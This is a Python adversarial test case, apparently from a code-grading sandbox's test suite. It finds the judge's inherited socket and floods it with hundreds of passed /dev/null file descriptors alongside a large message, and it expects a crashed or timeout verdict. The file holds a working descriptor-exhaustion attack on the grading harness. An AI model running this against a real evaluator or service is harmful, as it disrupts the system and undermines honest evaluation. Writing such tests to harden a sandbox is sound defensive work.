# attack: floods the judge with open descriptors beside its bytes
# exercise: 02_once
# expect: status=failed points<=0 verdicts=crashed|timeout

import os
import socket
import stat
import struct
import time

import msgspec


def wire():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass


def frame(header, payload=b""):
    data = msgspec.msgpack.encode(header)
    return struct.pack(">II", len(data), len(payload)) + data + payload


def say(header, payload=b""):
    wire().sendall(frame(header, payload))
    time.sleep(60)


def value(tree, **more):
    return {"type": "Value", "tree": tree, "mutated": [], "ops": []} | more


def double(x):
    out, null = wire(), os.open("/dev/null", os.O_RDONLY)
    data = frame(value(["l", [0] * 100000]))
    for start in range(0, len(data) - 1000, 1000):
        socket.send_fds(out, [data[start : start + 1000]], [null] * 200)
    time.sleep(60)
